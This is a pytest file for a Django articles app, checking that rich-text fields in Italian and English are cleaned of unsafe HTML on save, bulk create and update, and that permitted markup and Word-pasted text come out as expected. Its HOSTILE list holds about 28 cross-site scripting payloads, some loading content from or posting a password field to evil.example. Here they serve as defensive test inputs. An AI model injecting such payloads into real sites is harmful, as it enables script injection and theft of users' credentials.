"""What is stored of a rich text, whatever came in."""

import re

import pytest

from articles.models import Callout, RichText
from tests.factories import add_block, make_article

pytestmark = pytest.mark.django_db

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<p onclick="alert(1)">x</p>',
    "<p ONMOUSEOVER=alert(1)>x</p>",
    '<img src="x" onerror="alert(1)">',
    '<svg onload="alert(1)"><script>alert(1)</script></svg>',
    '<iframe src="https://evil.example/"></iframe>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" JaVaScRiPt:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:alert(1)">x</a>',
    '<a href="https://example.org/" onfocus="alert(1)" autofocus>x</a>',
    '<b onclick="alert(1)">x</b>',
    '<h1 onclick="alert(1)">x</h1>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<style>p{background:url(//evil.example)}</style>",
    '<link rel="stylesheet" href="//evil.example/x.css">',
    '<base href="//evil.example/">',
    '<form action="//evil.example/"><input name="password"></form>',
    '<meta http-equiv="refresh" content="0;url=//evil.example/">',
    '<object data="//evil.example/"></object><embed src="//evil.example/">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--<img src='--><img src=x onerror=alert(1)>'-->",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<b<script>>alert(1)</script>",
]
ALLOWED = re.compile(
    r"</?(?:p|h2|h3|ul|ol|li|strong|em|sub|sup|br)>"
    r"|<ol start=\"\d+\">"
    r'|<a(?: href="(?:https?:|mailto:|tel:|/|#)[^"<>]*")?(?: rel="[\w ]*")?(?: title="[^"]*")?>'
    r"|</a>"
)

WORD = """
<p class="MsoNormal" style="margin-bottom:0cm"><b style="mso-bidi-font-weight:normal"><span
lang="IT" style="font-size:12pt">Gli effetti</span></b><span lang="IT"> sono <font face="Calibri"
color="#ff0000">lievi</font>.<o:p></o:p></span></p>
<p class="MsoNormal"><o:p>&nbsp;</o:p></p>
<!--[if gte mso 9]><xml><w:WordDocument><w:View>Normal</w:View></w:WordDocument></xml><![endif]-->
<style>@font-face{font-family:Calibri}</style>
<h1 class="MsoTitle"><a name="_Toc1"></a>Titolo</h1>
<div class="WordSection1"><i>in breve</i></div>
"""


def stored(row, field: str) -> str:
    """What the table holds, past everything that models do when they are read."""
    return type(row).objects.filter(pk=row.pk).values_list(field, flat=True).get()


class TestHostileHtml:
    @pytest.mark.parametrize("hostile", HOSTILE)
    def test_leaves_nothing_but_the_allowed_elements(self, hostile):
        row = add_block(make_article(), RichText, text_it=f"{hostile}<p>ok</p>")

        text = stored(row, "text_it")

        assert re.search("[<>]", ALLOWED.sub("", text)) is None, text

    @pytest.mark.parametrize("language", ["it", "en"])
    def test_is_cleaned_in_each_language_on_save(self, language):
        row = add_block(make_article(), RichText)

        setattr(row, f"text_{language}", '<p onclick="alert(1)">x</p><script>y</script>')
        row.save()

        assert stored(row, f"text_{language}") == "<p>x</p>"
        assert getattr(row, f"text_{language}") == "<p>x</p>"

    def test_is_cleaned_on_bulk_create(self):
        article = make_article(text=False)
        hostile = {f"text_{code}": "<script>x</script><b>y</b>" for code in ("it", "en")}

        RichText.objects.bulk_create([RichText(parent=article, region="main", **hostile)])

        assert list(RichText.objects.values_list("text_it", "text_en")) == [
            ("<strong>y</strong>", "<strong>y</strong>")
        ]

    def test_is_cleaned_on_update(self):
        row = add_block(make_article(), RichText)

        RichText.objects.filter(pk=row.pk).update(text_it="<script>x</script><b>y</b>")

        assert stored(row, "text_it") == "<strong>y</strong>"

    def test_is_cleaned_on_bulk_update(self):
        row = add_block(make_article(), RichText)

        row.text_en = "<script>x</script><b>y</b>"
        RichText.objects.bulk_update([row], ["text_en"])

        assert stored(row, "text_en") == "<strong>y</strong>"

    def test_is_cleaned_in_call_outs(self):
        row = add_block(make_article(), Callout, text_en='<p onclick="x">y</p><script>z</script>')

        assert stored(row, "text_en") == "<p>y</p>"


class TestWord:
    def test_keeps_the_words_and_what_they_mean(self):
        row = add_block(make_article(), RichText, text_it=WORD)

        text = " ".join(stored(row, "text_it").split())

        assert text == (
            "<p><strong>Gli effetti</strong> sono lievi.</p> "
            "<h2>Titolo</h2> <p><em>in breve</em></p>"
        )


class TestAllowedHtml:
    @pytest.mark.parametrize(
        "text",
        [
            "<h2>a</h2><p>b</p><h3>c</h3><p>d</p>",
            "<ul><li><p>a</p></li><li><p>b</p></li></ul>",
            "<ol><li>a</li></ol>",
            "<p>H<sub>2</sub>O, 10<sup>9</sup></p>",
            "<p><strong>a</strong> <em>b</em><br>c</p>",
            '<p><a href="https://example.org/?a=1&amp;b=2">x</a></p>',
            '<p><a href="mailto:effetti@effetti.it">x</a> <a href="tel:+39023343281">y</a></p>',
            "<p>regression.  Another “feature”, l’altro &lt; 5 &amp; più</p>",
        ],
    )
    def test_stays_to_the_letter(self, text):
        row = add_block(make_article(), RichText, text_it=text, text_en=text)

        assert stored(row, "text_it") == text
        assert stored(row, "text_en") == text

    def test_is_not_worn_by_many_saves(self):
        row = add_block(make_article(), RichText, text_it=WORD)
        once = stored(row, "text_it")

        for _ in range(2):
            row = RichText.objects.get(pk=row.pk)
            row.save()

        assert stored(row, "text_it") == once

    def test_call_outs_have_no_headings(self):
        row = add_block(make_article(), Callout, text_it="<h2>a</h2><p>b</p><h3>c</h3>")

        assert stored(row, "text_it") == "a<p>b</p>c"

    def test_what_holds_nothing_is_stored_as_nothing(self):
        row = add_block(make_article(), RichText, text_it="<p></p><p>&nbsp;</p>")

        assert stored(row, "text_it") == ""

    def test_one_language_is_not_lent_to_the_other(self):
        row = add_block(make_article(), RichText, text_it="<p>solo</p>")

        assert not stored(row, "text_en")
        assert not RichText.objects.get(pk=row.pk).text_en
